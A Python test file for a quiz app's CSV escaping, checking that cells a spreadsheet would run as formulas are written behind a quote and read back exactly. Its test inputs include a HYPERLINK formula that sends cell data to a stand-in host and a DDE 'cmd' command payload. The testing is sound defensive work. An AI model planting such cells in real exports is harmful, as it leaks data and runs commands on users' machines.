"""CSV cells a spreadsheet would run as formulas are written as text, and read back exactly."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizapp.csv_cells import FORMULA_STARTS, csv_cell, csv_cell_read, csv_writer


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Open")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        ("'=1+1", "''=1+1"),  # already quoted: one more, so reading gives it back
    ],
)
def test_text_a_spreadsheet_would_run_is_written_behind_a_quote(value, written):
    assert csv_cell(value) == written
    assert csv_cell_read(written) == value


@pytest.mark.parametrize(
    "value", ["Yerevan", "'tis", "a=b", "1+1", "", " -5", "''", "It's -5 today"]
)
def test_other_text_is_written_as_it_is(value):
    assert csv_cell(value) == value
    assert csv_cell_read(value) == value


@pytest.mark.parametrize("number", [-0.25, -3, 0, Decimal("-1.50"), True])
def test_numbers_stay_numbers(number):
    assert csv_cell(number) is number


def test_none_is_an_empty_cell():
    assert csv_cell(None) == ""


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a 1\n\""), max_size=8) | st.text(max_size=8))
def test_every_text_is_safe_once_written_and_comes_back_when_read(text):
    written = csv_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert csv_cell_read(written) == text


def test_the_writer_marks_every_risky_cell_of_a_row():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["=1+1", "ok", -0.5, None, "@x"])
    writer.writerows([["-2+3", 7]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "ok", "-0.5", "", "'@x"], ["'-2+3", "7"]]
